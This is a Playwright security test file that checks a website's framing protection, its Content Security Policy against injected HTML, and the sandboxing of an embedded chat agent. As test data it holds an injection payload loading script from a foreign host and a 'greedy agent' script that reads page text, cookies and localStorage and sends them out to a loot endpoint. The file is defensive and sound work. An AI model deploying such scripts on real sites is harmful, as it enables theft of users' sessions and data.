import type { Page } from '@playwright/test';
import { at, contentOf, posts } from '../../support/content';
import { forNode, services, site } from '../../support/e2e/addresses';
import { open } from '../../support/e2e/open';
import { storageWith } from '../../support/e2e/storage';
import { expect, test } from '../../support/e2e/test';

test.describe('framing', () => {
  test.use({ expectedComplaints: /frame-ancestors/ });

  test('A08 no other site shows ours in a frame', async ({ page }) => {
    const body = `<!doctype html><iframe src="${site}/trial"></iframe>`;
    const foreign = `${services}/fremd`;
    await page.route(foreign, (route) => route.fulfill({ contentType: 'text/html', body }));
    await page.goto(foreign);
    await expect.poll(() => page.frames().at(1)?.url()).toMatch(/^chrome-error:/);
  });
});

test.describe('injected code', () => {
  // What a test hands out comes from no address, and may not call the counting tool on this machine.
  test.use({ expectedComplaints: /Content Security Policy|\/api\/event/ });

  test('A09 neither scripts nor styles nor foreign addresses in altered HTML do anything', async ({
    page,
  }) => {
    const injected =
      '<script>document.title="übernommen"</script><base href="https://fremd.example/">' +
      '<img src="/favicon.svg" onload="document.title=`übernommen`" style="position:fixed" id="injected">' +
      '<script src="https://fremd.example/x.js"></script><iframe src="https://fremd.example/"></iframe>';
    await page.route('/datenschutz', async (route) => {
      const response = await route.fetch({ url: forNode(route.request().url()) });
      const text = await response.text();
      await route.fulfill({ response, body: text.replace('<body>', `<body>${injected}`) });
    });
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        document.documentElement.setAttribute(`data-${effectiveDirective}`, 'refused');
      });
    });
    await open(page, '/datenschutz');
    for (const directive of ['script-src-elem', 'script-src-attr', 'style-src-attr', 'base-uri'])
      await expect(page.locator('html')).toHaveAttribute(`data-${directive}`, 'refused');
    await expect(page.locator('html')).toHaveAttribute('data-frame-src', 'refused');
    await expect(page).not.toHaveTitle(/übernommen/);
    await expect(page.locator('#injected')).not.toHaveCSS('position', 'fixed');
  });
});

/** An agent that takes what it can get, and goes on as long as it lives. */
const greedyAgent = `
  const attempt = (take) => { try { return String(take()); } catch { return 'refused'; } };
  const look = () => ({
    page: attempt(() => parent.document.body.innerText + parent.document.querySelector('input').value),
    top: attempt(() => top.document.title),
    local: attempt(() => JSON.stringify(localStorage)),
    cookie: attempt(() => document.cookie),
    origin: self.origin,
  });
  document.body.append(Object.assign(document.createElement('button'), { textContent: 'KI-Chat' }));
  setInterval(() => fetch('${services}/beute?' + encodeURIComponent(JSON.stringify(look()))), 50);
`;

/** What the agent reports home, followed live. */
async function employGreedyAgent(page: Page): Promise<string[]> {
  const loot: string[] = [];
  await page.route(/chat-agent\.js/, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: greedyAgent }),
  );
  await page.route(/\/beute\?/, (route) => {
    loot.push(decodeURIComponent(new URL(route.request().url()).search.slice(1)));
    return route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: '' });
  });
  return loot;
}

test.describe('the chat agent', () => {
  test.use({ storageState: storageWith({ cookieConsent: 'true', 'sb-x-auth-token': 'geheim' }) });

  test('A17 cannot read page, storage or what is typed, and is gone with the post', async ({
    page,
    consent,
  }) => {
    const loot = await employGreedyAgent(page);
    await open(page, at(posts(), 0).path);
    await expect.poll(() => loot.length).toBeGreaterThan(2);
    const refused = { page: 'refused', top: 'refused', local: 'refused', cookie: 'refused' };
    expect(JSON.parse(at(loot, -1))).toEqual({ ...refused, origin: 'null' });

    await page.getByRole('link', { name: contentOf('blog').post.back }).click();
    await expect(consent.chatFrame).toHaveCount(0);
    await expect.poll(() => page.frames().length, 'nothing is left that could run').toBe(1);
  });

  test('A17 its document opened by itself is locked up all the same', async ({ page }) => {
    const loot = await employGreedyAgent(page);
    await page.goto('/chat-agent');
    await expect.poll(() => loot.length).toBeGreaterThan(0);
    expect(JSON.parse(at(loot, -1))).toMatchObject({ local: 'refused', origin: 'null' });
  });
});
